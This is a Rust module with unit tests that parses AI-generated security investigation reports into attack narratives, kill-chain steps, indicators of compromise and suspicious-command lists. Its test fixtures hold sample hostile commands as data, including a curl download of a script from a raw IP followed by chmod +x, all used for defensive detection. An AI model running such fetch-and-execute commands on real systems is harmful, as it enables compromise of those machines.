//! Structured parsing of model responses.
//!
//! Real model outputs drift from the requested format — headers gain
//! markdown bold, lists switch between inline and bulleted, `IoCs` becomes
//! `IOCs` — so both parsers here are anchored on case-insensitive section
//! headers and tolerate bullet/numbering variations. They never panic on
//! arbitrary text: the investigation parser returns a structured error
//! carrying the raw text when nothing is recognizable, and the evidence
//! parser degrades to an empty list with a warning.

use regex::Regex;
use serde::{Deserialize, Serialize};
use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::sync::LazyLock;

use super::LlmError;

/// One step of the reconstructed attack chain.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct KeyStep {
    pub tactic: String,
    pub description: String,
}

/// Parsed investigation output: narrative, kill-chain steps, and the three
/// indicator-of-compromise sets.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct InvestigationReport {
    pub narrative: String,
    pub key_steps: Vec<KeyStep>,
    pub ioc_ips: BTreeSet<String>,
    pub ioc_processes: BTreeSet<String>,
    pub ioc_files: BTreeSet<String>,
}

impl InvestigationReport {
    pub fn ioc_count(&self) -> usize {
        self.ioc_ips.len() + self.ioc_processes.len() + self.ioc_files.len()
    }

    /// Canonical response-format rendering: what a perfectly behaved model
    /// would answer. `parse_acr_response` of this text recovers the report
    /// (narratives are joined single-line; IOCs must not contain commas).
    pub fn to_response_text(&self) -> String {
        let mut out = String::new();
        let _ = writeln!(out, "- Attack Narrative: {}", self.narrative);
        out.push_str("- Key Steps:\n");
        for (i, step) in self.key_steps.iter().enumerate() {
            let _ = writeln!(out, "  {}) {}: {}", i + 1, step.tactic, step.description);
        }
        out.push_str("- IoCs:\n");
        for (label, set) in [
            ("IPs", &self.ioc_ips),
            ("Processes", &self.ioc_processes),
            ("Files", &self.ioc_files),
        ] {
            if set.is_empty() {
                let _ = writeln!(out, "  - {label}: None");
            } else {
                let _ = writeln!(out, "  - {label}:");
                for entry in set {
                    let _ = writeln!(out, "    - {entry}");
                }
            }
        }
        out
    }
}

/// Strips one leading bullet marker (`- `, `* `, `• `) if present.
fn strip_bullet(line: &str) -> &str {
    let t = line.trim_start();
    for marker in ["- ", "* ", "• "] {
        if let Some(rest) = t.strip_prefix(marker) {
            return rest.trim_start();
        }
    }
    // A bare bullet with nothing after it.
    if t == "-" || t == "*" || t == "•" {
        return "";
    }
    t
}

/// Normalizes one indicator string: trims whitespace, strips surrounding
/// quote/backtick pairs and markdown emphasis, and drops a single trailing
/// sentence period. Returns `None` for empty results.
pub fn normalize_ioc(raw: &str) -> Option<String> {
    let mut s = raw.trim();
    loop {
        let before = s;
        for pair in ["\"", "'", "`"] {
            if s.len() >= 2 && s.starts_with(pair) && s.ends_with(pair) {
                s = &s[1..s.len() - 1];
            }
        }
        s = s.trim_matches('*').trim();
        if s == before {
            break;
        }
    }
    // "…reads /etc/passwd." — sentence-final period, not part of the path.
    if s.len() > 1 && s.ends_with('.') && !s.ends_with("..") {
        let trimmed = &s[..s.len() - 1];
        if !trimmed.ends_with(char::is_whitespace) {
            s = trimmed;
        }
    }
    let s = s.trim();
    if s.is_empty() {
        None
    } else {
        Some(s.to_string())
    }
}

/// True when an entry is a "nothing here" marker rather than an indicator.
fn is_none_marker(entry: &str) -> bool {
    let probe = entry
        .trim_start_matches(|c: char| !c.is_alphanumeric())
        .to_lowercase();
    probe.starts_with("none") || probe == "n/a" || probe == "-"
}

static NARRATIVE_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)^\W*attack\s+narrative\b\W*?(?::\s*)?(.*)$").unwrap());
static KEY_STEPS_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)^\W*key\s+steps\b\s*\W*$").unwrap());
static IOCS_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)^\W*(?:iocs?|indicators\s+of\s+compromise)\W*$").unwrap());
static IOC_SUB_RE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)^\W*(ips?|processes|files)\b(?:\W*$|\s*\*{0,2}:\s*(.*)$)").unwrap()
});
static STEP_ENUM_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^\[?\(?(\d+)[.)\]]*\s*").unwrap());
static MEI_SUMMARY_RE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)^\W*summari[sz]e\s+all\s+highly\s+suspicious\s+commands\b").unwrap()
});
static MEI_FALLBACK_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)^\W*command\s+line\s+\d+\s*:\s*(.+)$").unwrap());
static NUMBERED_RE: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"^(\d+)[.)]\s*(.*)$").unwrap());

#[derive(Debug, Clone, Copy, PartialEq)]
enum Section {
    Preamble,
    Narrative,
    KeySteps,
    Iocs,
    IocList(IocKind),
}

#[derive(Debug, Clone, Copy, PartialEq)]
enum IocKind {
    Ips,
    Processes,
    Files,
}

/// Parses an investigation response into a report. Fails only when no
/// recognizable section header appears at all; the raw text rides along in
/// the error for audit.
pub fn parse_acr_response(text: &str) -> Result<InvestigationReport, LlmError> {
    let mut report = InvestigationReport::default();
    let mut narrative_parts: Vec<String> = Vec::new();
    let mut section = Section::Preamble;
    let mut recognized = false;

    let push_entries = |kind: IocKind, content: &str, report: &mut InvestigationReport| {
        for piece in content.split(',') {
            if is_none_marker(piece) {
                continue;
            }
            if let Some(entry) = normalize_ioc(piece) {
                let set = match kind {
                    IocKind::Ips => &mut report.ioc_ips,
                    IocKind::Processes => &mut report.ioc_processes,
                    IocKind::Files => &mut report.ioc_files,
                };
                set.insert(entry);
            }
        }
    };

    for raw_line in text.lines() {
        let line = raw_line.trim();
        if let Some(caps) = NARRATIVE_RE.captures(line) {
            section = Section::Narrative;
            recognized = true;
            let rest = caps.get(1).map_or("", |m| m.as_str()).trim();
            let rest = rest.trim_matches('*').trim();
            if !rest.is_empty() {
                narrative_parts.push(rest.to_string());
            }
            continue;
        }
        if KEY_STEPS_RE.is_match(line) {
            section = Section::KeySteps;
            recognized = true;
            continue;
        }
        if IOCS_RE.is_match(line) {
            section = Section::Iocs;
            recognized = true;
            continue;
        }
        if section != Section::Preamble {
            if let Some(caps) = IOC_SUB_RE.captures(line) {
                let kind = match caps.get(1).unwrap().as_str().to_lowercase().as_str() {
                    "ip" | "ips" => IocKind::Ips,
                    "processes" => IocKind::Processes,
                    _ => IocKind::Files,
                };
                section = Section::IocList(kind);
                recognized = true;
                if let Some(inline) = caps.get(2) {
                    push_entries(kind, inline.as_str(), &mut report);
                }
                continue;
            }
        }
        match section {
            Section::Preamble | Section::Iocs => {}
            Section::Narrative => {
                if !line.is_empty() {
                    narrative_parts.push(line.to_string());
                }
            }
            Section::KeySteps => {
                let content = strip_bullet(line);
                if content.is_empty() {
                    continue;
                }
                let content = STEP_ENUM_RE.replace(content, "");
                match content.split_once(':') {
                    Some((tactic, description)) => {
                        let tactic = tactic.trim().trim_matches(['[', ']', '*']).trim();
                        report.key_steps.push(KeyStep {
                            tactic: tactic.to_string(),
                            description: description.trim().to_string(),
                        });
                    }
                    None => {
                        // Continuation of the previous step's description.
                        if let Some(last) = report.key_steps.last_mut() {
                            last.description.push(' ');
                            last.description.push_str(content.trim());
                        }
                    }
                }
            }
            Section::IocList(kind) => {
                let content = strip_bullet(line);
                if !content.is_empty() {
                    push_entries(kind, content, &mut report);
                }
            }
        }
    }

    if !recognized {
        return Err(LlmError::UnparseableReport {
            raw: text.to_string(),
        });
    }
    report.narrative = narrative_parts.join(" ");
    Ok(report)
}

/// Outcome of parsing an evidence-identification response.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct MeiResponse {
    /// Suspicious commands, trimmed and de-duplicated, input order kept.
    pub commands: Vec<String>,
    /// Set when the response had neither the summary section nor any
    /// recognizable command entry — an empty verdict, not a hard failure.
    pub warning: Option<String>,
}

fn clean_command(raw: &str) -> Option<String> {
    normalize_ioc(raw)
}

/// Extracts the suspicious-command list from an evidence response: the
/// entries under the summary section when present, otherwise any
/// `Command line N:` entries anywhere in the text.
pub fn parse_mei_response(text: &str) -> MeiResponse {
    let mut commands: Vec<String> = Vec::new();
    let mut seen: BTreeSet<String> = BTreeSet::new();
    fn push(commands: &mut Vec<String>, seen: &mut BTreeSet<String>, cmd: Option<String>) {
        if let Some(cmd) = cmd {
            if seen.insert(cmd.clone()) {
                commands.push(cmd);
            }
        }
    }

    let mut in_summary = false;
    let mut summary_seen = false;
    for raw_line in text.lines() {
        let line = raw_line.trim();
        if MEI_SUMMARY_RE.is_match(line) {
            in_summary = true;
            summary_seen = true;
            continue;
        }
        if !in_summary {
            continue;
        }
        let content = strip_bullet(line);
        if content.is_empty() {
            continue;
        }
        if let Some(caps) = NUMBERED_RE.captures(content) {
            push(
                &mut commands,
                &mut seen,
                clean_command(caps.get(2).unwrap().as_str()),
            );
        } else if strip_bullet(line) != line.trim() {
            // Unnumbered bullet entry.
            push(&mut commands, &mut seen, clean_command(content));
        } else {
            // Plain prose ends the summary list.
            in_summary = false;
        }
    }

    if commands.is_empty() && !summary_seen {
        for line in text.lines() {
            if let Some(caps) = MEI_FALLBACK_RE.captures(line.trim()) {
                push(
                    &mut commands,
                    &mut seen,
                    clean_command(caps.get(1).unwrap().as_str()),
                );
            }
        }
        if commands.is_empty() {
            return MeiResponse {
                commands,
                warning: Some(
                    "no summary section and no command entries found in the response".into(),
                ),
            };
        }
    }
    MeiResponse {
        commands,
        warning: None,
    }
}

static REASON_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)^\W*reason\s*:\s*(.+)$").unwrap());

/// Pairs each `Command line N:` entry with the `Reason:` line that follows
/// it, for evidence rationales. Purely best-effort; commands without a
/// reason get an empty rationale.
pub fn parse_mei_reasons(text: &str) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = Vec::new();
    for raw_line in text.lines() {
        let line = raw_line.trim();
        if MEI_SUMMARY_RE.is_match(line) {
            break;
        }
        if let Some(caps) = MEI_FALLBACK_RE.captures(line) {
            if let Some(cmd) = normalize_ioc(caps.get(1).unwrap().as_str()) {
                out.push((cmd, String::new()));
            }
        } else if let Some(caps) = REASON_RE.captures(strip_bullet(line)) {
            if let Some(last) = out.last_mut() {
                if last.1.is_empty() {
                    last.1 = caps.get(1).unwrap().as_str().trim().to_string();
                }
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reasons_attach_to_their_commands() {
        let text = "\
- Command line 1: ./gtcache
  Reason: unknown binary executed from a relative path
- Command line 2: whoami
  Reason: reconnaissance
- Summarize All Highly Suspicious Commands:
  - 1. ./gtcache.
";
        let reasons = parse_mei_reasons(text);
        assert_eq!(
            reasons,
            vec![
                (
                    "./gtcache".to_string(),
                    "unknown binary executed from a relative path".to_string()
                ),
                ("whoami".to_string(), "reconnaissance".to_string()),
            ]
        );
    }

    #[test]
    fn normalization_strips_wrapping_and_sentence_periods() {
        assert_eq!(normalize_ioc("  vUgefal  "), Some("vUgefal".into()));
        assert_eq!(normalize_ioc("`/tmp/vUgefal`"), Some("/tmp/vUgefal".into()));
        assert_eq!(
            normalize_ioc("\"61.167.39.128\""),
            Some("61.167.39.128".into())
        );
        assert_eq!(normalize_ioc("**nginx**"), Some("nginx".into()));
        assert_eq!(normalize_ioc("'`x`'"), Some("x".into()));
        assert_eq!(
            normalize_ioc("/var/log/devc."),
            Some("/var/log/devc".into())
        );
        assert_eq!(normalize_ioc("10.0.0.1"), Some("10.0.0.1".into()));
        assert_eq!(normalize_ioc("   "), None);
        assert_eq!(normalize_ioc("``"), None);
    }

    // A condensed transcript in the shape models actually produce: markdown
    // headers, a preamble review, bulleted IOC lists, an inline None.
    const INVESTIGATION_SAMPLE: &str = "\
=== RESPONSE ===

**Analysis**

I'll systematically analyze all processes in the provenance graph.

**Process-by-Process Review**

- cron: Accesses /etc/spwd.db, /etc/group — all standard cron behavior.
- syslogd: Writes to /var/log/cron — normal logging.

**Critical Anomaly: vUgefal Process**

1. nginx writes /tmp/vUgefal, suggesting a web exploitation vector.
2. vUgefal reads /etc/passwd, consistent with reconnaissance behavior.

**Attack Narrative**

An attacker likely exploited the nginx web server, potentially through the PHP application served by php-fpm at /usr/local/www/nginx-dist/index.php, to upload a malicious binary named vUgefal into /tmp.

**IOCs**

**IPs:** None explicitly present in the graph.

**Processes:**
- vUgefal
- nginx
- php-fpm

**Files:**
- /tmp/vUgefal
- /var/log/devc
- /usr/local/www/nginx-dist/index.php
";

    #[test]
    fn investigation_transcript_parses_to_expected_iocs() {
        let report = parse_acr_response(INVESTIGATION_SAMPLE).unwrap();
        assert!(report.ioc_ips.is_empty(), "got {:?}", report.ioc_ips);
        let procs: Vec<&str> = report.ioc_processes.iter().map(String::as_str).collect();
        assert_eq!(procs, vec!["nginx", "php-fpm", "vUgefal"]);
        let files: Vec<&str> = report.ioc_files.iter().map(String::as_str).collect();
        assert_eq!(
            files,
            vec![
                "/tmp/vUgefal",
                "/usr/local/www/nginx-dist/index.php",
                "/var/log/devc"
            ]
        );
        assert!(report.narrative.starts_with("An attacker likely exploited"));
        // Preamble review lines must not leak into the narrative.
        assert!(!report.narrative.contains("standard cron behavior"));
    }

    #[test]
    fn template_conforming_output_parses_fully() {
        let text = "\
- Attack Narrative: A web shell dropped a binary and exfiltrated data.
- Key Steps:
  1) Initial Access: exploited the nginx frontend
  2) Execution: ran the dropped binary from /tmp
- IoCs:
  - IPs: 61.167.39.128
  - Processes: vUgefal, nginx
  - Files: /tmp/vUgefal
";
        let report = parse_acr_response(text).unwrap();
        assert_eq!(
            report.narrative,
            "A web shell dropped a binary and exfiltrated data."
        );
        assert_eq!(report.key_steps.len(), 2);
        assert_eq!(report.key_steps[0].tactic, "Initial Access");
        assert_eq!(
            report.key_steps[1].description,
            "ran the dropped binary from /tmp"
        );
        assert_eq!(
            report.ioc_ips.iter().next().map(String::as_str),
            Some("61.167.39.128")
        );
        assert_eq!(report.ioc_processes.len(), 2);
        assert_eq!(report.ioc_files.len(), 1);
    }

    #[test]
    fn all_none_lists_yield_empty_sets_with_narrative() {
        let text = "\
- Attack Narrative: Nothing malicious found; routine system activity only.
- Key Steps:
- IoCs:
  - IPs: None
  - Processes: None
  - Files: None
";
        let report = parse_acr_response(text).unwrap();
        assert_eq!(report.ioc_count(), 0);
        assert!(report.key_steps.is_empty());
        assert!(report.narrative.contains("routine system activity"));
    }

    #[test]
    fn unrecognizable_text_errors_with_raw_payload() {
        let err = parse_acr_response("I cannot help with that request.").unwrap_err();
        match err {
            LlmError::UnparseableReport { raw } => {
                assert!(raw.contains("cannot help"));
            }
            other => panic!("unexpected error {other:?}"),
        }
    }

    #[test]
    fn canonical_rendering_round_trips() {
        let mut report = InvestigationReport {
            narrative: "A dropper wrote to /tmp and phoned home.".into(),
            key_steps: vec![
                KeyStep {
                    tactic: "Delivery".into(),
                    description: "nginx wrote the payload".into(),
                },
                KeyStep {
                    tactic: "Command and Control".into(),
                    description: "connected to a remote host".into(),
                },
            ],
            ..Default::default()
        };
        report.ioc_ips.insert("203.0.113.9".into());
        report.ioc_files.insert("/tmp/payload".into());
        report.ioc_files.insert("/var/log/devc".into());

        let text = report.to_response_text();
        let reparsed = parse_acr_response(&text).unwrap();
        assert_eq!(reparsed, report);
    }

    #[test]
    fn empty_report_round_trips_through_none_markers() {
        let report = InvestigationReport {
            narrative: "Benign activity.".into(),
            ..Default::default()
        };
        let reparsed = parse_acr_response(&report.to_response_text()).unwrap();
        assert_eq!(reparsed, report);
    }

    #[test]
    fn mei_summary_entries_are_extracted_in_order() {
        let text = "\
- Command line 1: ./gtcache
  Reason: unknown binary executed from a relative path
- Command line 2: /bin/sh -c ./gtcache
  Reason: shell wrapper for the same binary
- Summarize All Highly Suspicious Commands:
  - 1. ./gtcache.
  - 2. /bin/sh -c ./gtcache.
";
        let parsed = parse_mei_response(text);
        assert_eq!(parsed.commands, vec!["./gtcache", "/bin/sh -c ./gtcache"]);
        assert!(parsed.warning.is_none());
    }

    #[test]
    fn mei_negative_verdict_gives_empty_list() {
        let parsed = parse_mei_response("No suspicious commands found.");
        assert!(parsed.commands.is_empty());
    }

    #[test]
    fn mei_falls_back_to_command_line_entries() {
        let text = "\
Command line 1: curl http://203.0.113.9/x.sh
Reason: downloads a script from a raw IP
Command line 2: chmod +x /tmp/x.sh
Reason: marks the download executable
";
        let parsed = parse_mei_response(text);
        assert_eq!(
            parsed.commands,
            vec!["curl http://203.0.113.9/x.sh", "chmod +x /tmp/x.sh"]
        );
        assert!(parsed.warning.is_none());
    }

    #[test]
    fn mei_without_any_structure_warns() {
        let parsed = parse_mei_response("The weather is nice today.");
        assert!(parsed.commands.is_empty());
        assert!(parsed.warning.is_some());
    }

    #[test]
    fn mei_duplicate_entries_collapse_order_preserving() {
        let text = "\
Summarize All Highly Suspicious Commands:
1. b-cmd
2. a-cmd
3. b-cmd
";
        let parsed = parse_mei_response(text);
        assert_eq!(parsed.commands, vec!["b-cmd", "a-cmd"]);
    }

    #[test]
    fn parsers_do_not_panic_on_adversarial_text() {
        for text in [
            "",
            ":::",
            "IoCs:",
            "Attack Narrative:",
            "Key Steps:\n::::\n1)",
            "\u{0}\u{1}\u{2}",
            "- IPs: ,,,",
        ] {
            let _ = parse_acr_response(text);
            let _ = parse_mei_response(text);
        }
    }
}
